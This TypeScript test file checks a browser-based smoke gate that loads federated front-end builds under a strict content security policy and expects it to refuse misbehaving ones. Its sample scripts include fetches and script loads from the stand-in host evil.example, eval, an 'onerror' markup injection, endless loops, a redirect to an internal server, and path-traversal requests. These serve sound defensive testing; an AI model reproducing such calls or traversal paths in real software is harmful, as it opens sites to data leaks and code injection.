import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import type { PlatformFacts } from '../platform-facts.ts';
import { makeFacts, makeSample, makeSampleKey, sendSample, type SampleBuild } from '../testing/sample-build.ts';
import { createSmokeGate } from './check-smoke.ts';
import { findBrowser } from './find-browser.ts';
import { loadInBrowser } from './load-in-browser.ts';
import { serveSmoke } from './serve-smoke.ts';

const browser = findBrowser(null);
const key = makeSampleKey();
const facts: PlatformFacts = makeFacts(key);

/** A container as federation makes them, by hand: it exposes `./remote`, whose screens do this. */
const containerOf = (name: string, screens: string, extensions = ''): string =>
  `self.${name} = { init() {}, get: async () => () => ({ remote: { screens: { ${screens} }, extensions: { ${extensions} } } }) };`;
const screenOf = '"/billing": async () => () => null';
const offering: SampleBuild = {
  descriptor: {
    extensions: [
      {
        id: 'billing.pay',
        slot: 'dialog@1',
        name: 'pay',
        title: { key: 'billing.pay', text: 'Pay' },
        access: [],
        order: 1,
      },
    ],
  },
};

function buildOf(name: string, script: string, more: SampleBuild = {}) {
  const sample = makeSample({ ...more, script, descriptor: { containerName: name, ...more.descriptor } });
  return { ...sendSample(key, sample), descriptor: sample.descriptor };
}

test('without a browser a team goes on, and the platform of production refuses', async () => {
  const build = buildOf('billing_0', '');
  assert.deepEqual(await createSmokeGate({ browser: '/no/browser' }).check(build, facts), {
    problems: [],
    skipped: 'no Chromium was found',
  });
  assert.deepEqual(await createSmokeGate({ browser: false }).check(build, facts), {
    problems: [],
    skipped: 'not asked for',
  });
  const refusal = await createSmokeGate({ browser: '/no/browser', withoutBrowser: 'refuse' }).check(build, facts);
  assert.ok('problems' in refusal && refusal.problems.length === 1);
  assert.match(refusal.problems[0]?.remedy ?? '', /CHROMIUM_PATH.*ATRIUM_PUBLISH_WITHOUT_BROWSER/);
});

test('the page has the policy of production, and only files of the build are served beside it', async (t) => {
  const build = buildOf('billing_1', '');
  const policy =
    "default-src 'none'; script-src 'nonce-{nonce}' 'strict-dynamic'; style-src 'self' 'nonce-{nonce}'; connect-src 'self'; upgrade-insecure-requests; report-uri /x";
  const servers = await serveSmoke(
    { ...build, files: new Map([...build.files, ['secret.txt', Buffer.from('x')]]) },
    policy,
  );
  t.after(() => servers.close());
  const page = await fetch(servers.url);
  const sent = page.headers.get('content-security-policy') ?? '';
  const [, nonce = ''] = /'nonce-([^']+)'/.exec(sent) ?? [];
  assert.match(
    sent,
    /^default-src 'none'; script-src 'nonce-[^']+' 'strict-dynamic'; style-src 'self' 'nonce-[^']+' http:\/\/127\.0\.0\.1:\d+; connect-src 'self'$/,
  );
  const text = await page.text();
  assert.ok(text.includes(`nonce="${nonce}"`));
  const [, baseUrl = ''] = /"baseUrl":"([^"]+)"/.exec(text) ?? [];
  assert.notEqual(new URL(baseUrl).origin, new URL(servers.url).origin);
  const statusOf = async (file: string): Promise<number> => (await fetch(baseUrl + file)).status;
  assert.deepEqual(
    [await statusOf('entry.js'), await statusOf('secret.txt'), await statusOf('..%2f..%2fpackage.json')],
    [200, 404, 404],
  );
  assert.equal((await fetch(new URL('/library/0/..%2f..%2fpackage.json', servers.url))).status, 404);
  assert.equal((await fetch(new URL('/library/0/../../package.json', servers.url))).status, 404);
});

const cases: readonly (readonly [
  situation: string,
  script: (name: string) => string,
  problem: RegExp | null,
  more?: SampleBuild,
])[] = [
  ['exposes a screen that loads', (name) => containerOf(name, '"/billing": async () => () => null'), null],
  ['makes no container', () => 'self.other = 1;', /made no global/],
  ['throws while it starts', () => 'throw new Error("not today");', /not today|made no global/],
  [
    'exposes no screens',
    (name) => `self.${name} = { init() {}, get: async () => () => ({ remote: {} }) };`,
    /exposes no screens/,
  ],
  [
    'has a screen that does not load',
    (name) => containerOf(name, '"/billing": async () => { throw new Error("no chunk"); }'),
    /its screen does not load: no chunk/,
  ],
  [
    'has a screen that is no route',
    (name) => containerOf(name, '"/billing": async () => () => null, "/other": async () => () => null'),
    /no route of remote\.json/,
  ],
  [
    'brings what it offers',
    (name) => containerOf(name, screenOf, '"billing.pay": async () => () => null'),
    null,
    offering,
  ],
  ['does not bring what it offers', (name) => containerOf(name, screenOf), /billing\.pay is offered/, offering],
  [
    'brings an extension that it does not offer',
    (name) => containerOf(name, screenOf, '"billing.other": async () => () => null'),
    /billing\.other is an extension of the module, but no offer/,
  ],
  [
    'has an extension that does not load',
    (name) => containerOf(name, screenOf, '"billing.pay": async () => { throw new Error("no chunk"); }'),
    /its extension does not load: no chunk/,
    offering,
  ],
  [
    'evaluates text',
    (name) => `${containerOf(name, '"/billing": async () => () => null')} try { eval("1"); } catch {}`,
    /policy of every page forbids it/,
  ],
  [
    'writes markup',
    (name) =>
      `${containerOf(name, '"/billing": async () => () => null')} try { document.createElement("div").innerHTML = "<img onerror=1>"; } catch {}`,
    /policy of every page forbids it: require-trusted-types-for/,
  ],
  [
    'asks another server',
    (name) =>
      `${containerOf(name, '"/billing": async () => () => null')} fetch("https://evil.example/").catch(() => 0);`,
    /forbids it: connect-src, https:\/\/evil\.example/,
  ],
  [
    'loads a script that nobody vouched for',
    (name) =>
      `${containerOf(name, '"/billing": async () => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s); return () => null; }')}`,
    /policy of every page forbids it|does not load/,
  ],
];

/** As the edge sends it; a test of the server holds this copy to it. */
const policy = readFileSync(join(import.meta.dirname, '../testing/page-policy.txt'), 'utf8').trim();

for (const [index, [situation, script, problem, more]] of (browser === null ? [] : cases).entries()) {
  // Where there is no browser there is nothing to learn from these; that the gate then says so is tested above.
  test(`a build that ${situation} ${problem === null ? 'passes' : 'is refused'}`, async () => {
    const name = `billing_${index}`;
    const answer = await createSmokeGate({ browser }).check(buildOf(name, script(name), more), { ...facts, policy });
    assert.ok('problems' in answer);
    const messages = answer.problems.map(({ field, message }) => `${field ?? ''} ${message}`);
    if (problem === null) assert.deepEqual(messages, []);
    else
      assert.ok(
        messages.some((message) => problem.test(message)),
        JSON.stringify(messages),
      );
  });
}

const endless: readonly (readonly [what: string, script: (name: string) => string])[] = [
  ['stays busy', (name) => `self.${name} = { init() {}, get: async () => { for (;;); } };`],
  [
    'has stopped the clock',
    (name) => `self.setTimeout = () => 0; self.${name} = { init() {}, get: () => new Promise(() => undefined) };`,
  ],
];

for (const [index, [what, script]] of endless.entries()) {
  if (browser === null) continue;
  test(`a build whose page ${what} is refused within the limit`, { timeout: 60_000 }, async () => {
    const name = `endless_${index}`;
    const answer = await loadInBrowser(buildOf(name, script(name)), { executable: browser, policy, limitMs: 2_000 });
    assert.ok('problems' in answer);
    assert.ok(answer.problems.length > 0, 'it did not load');
  });
}

if (browser !== null)
  test('of a page without end of problems a hundred are listed', async () => {
    const script = `${containerOf('many_problems', '"/billing": async () => () => null')} for (let i = 0; i < 300; i += 1) try { eval("1"); } catch {}`;
    const answer = await loadInBrowser(buildOf('many_problems', script), { executable: browser, policy });
    assert.ok('problems' in answer);
    assert.equal(answer.problems.length, 100);
  });

if (browser !== null)
  test('a build that leads its page elsewhere reaches nobody', async (t) => {
    const asked: (string | undefined)[] = [];
    const inside = createServer((request, response) => {
      asked.push(request.url);
      response.end('secret');
    });
    await new Promise<void>((done) => inside.listen(0, '127.0.0.1', done));
    t.after(() => inside.close());
    const address = `http://127.0.0.1:${(inside.address() as AddressInfo).port}/inside`;
    const script = `self.leaves = { init() {}, get: () => { location.href = ${JSON.stringify(address)}; return new Promise(() => undefined); } };`;
    const answer = await loadInBrowser(buildOf('leaves', script), { executable: browser, policy, limitMs: 3_000 });
    assert.deepEqual(asked, []);
    assert.ok('problems' in answer && answer.problems.length > 0);
  });
